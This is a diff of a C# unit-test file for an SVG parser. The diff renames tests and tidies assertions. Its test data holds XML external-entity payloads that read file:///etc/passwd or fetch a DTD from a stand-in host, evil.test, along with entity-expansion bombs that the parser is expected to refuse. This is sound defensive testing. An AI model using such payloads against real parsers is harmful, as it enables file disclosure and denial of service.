@@ -5,12 +5,12 @@ using XQr.Rendering.Svg;
 
 namespace XQr.Rendering.Tests;
 
-/// <summary>SVG files as drawing programs of all times write them.</summary>
+/// <summary>SVG files as old and new drawing programs write them.</summary>
 public sealed class SvgSourceTests
 {
     private const string Namespace = "xmlns='http://www.w3.org/2000/svg'";
 
-    public static TheoryData<string, string> Refused => new()
+    public static TheoryData<string, string> Invalid => new()
     {
         { $"<!DOCTYPE svg [<!ENTITY a 'text'>]><svg {Namespace}><text>&a;</text></svg>", "no entity such as &a; in a text" },
         { $"<!DOCTYPE svg [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]><svg {Namespace} id='&b;'/>", "declare the entity &b; with a value of plain text" },
@@ -18,8 +18,8 @@ public sealed class SvgSourceTests
         { $"<!DOCTYPE svg [<!ENTITY a '&#60;'>]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
         { $"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
         { $"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg {Namespace}>&a;</svg>", "no entity such as &a;" },
-        { $"<!DOCTYPE svg [<!ENTITY % p SYSTEM 'https://evil.test/x.dtd'> %p;]><svg {Namespace} id='&fromThere;'/>", "declare the entity &fromThere;" },
-        { $"<!DOCTYPE svg [<!ENTITY a '{new string('a', 4000)}'>]><svg {Namespace}>{string.Concat(Enumerable.Repeat("<g id='&a;'/>", 100))}</svg>", "more than 262144 characters" },
+        { $"<!DOCTYPE svg [<!ENTITY % p SYSTEM 'https://evil.test/x.dtd'> %p;]><svg {Namespace} id='&external;'/>", "declare the entity &external;" },
+        { $"<!DOCTYPE svg [<!ENTITY a '{new string('a', 4000)}'>]><svg {Namespace}>{Uses(100)}</svg>", "more than 262144 characters" },
         { $"<!DOCTYPE svg [<!ENTITY a '{new string('a', 5000)}'>]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
         { $"<!DOCTYPE svg [<!-- <!ENTITY a 'a'> -->]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
         { $"<svg {Namespace}>\n  <g></svg>", "well-formed XML: it is not at line 2, column" },
@@ -29,7 +29,7 @@ public sealed class SvgSourceTests
         { $"<?xml version='1.0' encoding='IBM037'?><svg {Namespace}/>", "UTF-8, or declare an encoding that is known" },
     };
 
-    /// <summary>Namespaces and styles by entities, as Illustrator 9 to CS3 wrote them.</summary>
+    /// <summary>Illustrator 9 to CS3 wrote namespaces and styles as entities.</summary>
     [Fact]
     public void EntitiesOfAttributes_AreExpanded()
     {
@@ -50,7 +50,9 @@ public sealed class SvgSourceTests
         Assert.Equal("http://www.w3.org/2000/svg", root.Name.NamespaceName);
         Assert.Null(root.Attribute("onload"));
         var group = Assert.Single(root.Elements());
-        Assert.Equal(("fill:#F00;font-family:\"A\"", "a&b > c", " &none; "), ((string?)group.Attribute("style"), (string?)group.Attribute("id"), group.Value));
+        Assert.Equal("fill:#F00;font-family:\"A\"", (string?)group.Attribute("style"));
+        Assert.Equal("a&b > c", (string?)group.Attribute("id"));
+        Assert.Equal(" &none; ", group.Value);
     }
 
     [Theory]
@@ -75,7 +77,7 @@ public sealed class SvgSourceTests
     }
 
     [Fact]
-    public void BytesOfAnotherEncoding_AreToldAsSuch()
+    public void BytesOfAnotherEncoding_AreAnError()
     {
         using var reader = SvgSource.TryOpen(Encoding.Latin1.GetBytes($"<svg {Namespace}><title>Café</title></svg>"), out var error);
 
@@ -83,14 +85,16 @@ public sealed class SvgSourceTests
         Assert.Equal("must have bytes of its encoding, utf-8, alone; save it as UTF-8", error);
     }
 
-    [Theory, MemberData(nameof(Refused))]
-    public void WhatIsNotExpanded_IsRefusedWithItsReason(string document, string expected)
+    [Theory, MemberData(nameof(Invalid))]
+    public void InvalidDocument_IsRejectedWithTheReason(string document, string expected)
     {
         using var reader = SvgSource.TryOpen(Encoding.UTF8.GetBytes(document), out var error);
-        error ??= SvgSource.Explain(Assert.ThrowsAny<XmlException>(() => XElement.Load(reader!)));
+        error ??= SvgSource.Describe(Assert.ThrowsAny<XmlException>(() => XElement.Load(reader!)));
 
         Assert.Contains(expected, error, StringComparison.Ordinal);
     }
+
+    private static string Uses(int count) => string.Concat(Enumerable.Repeat("<g id='&a;'/>", count));
 
     private static XElement Read(byte[] file)
     {
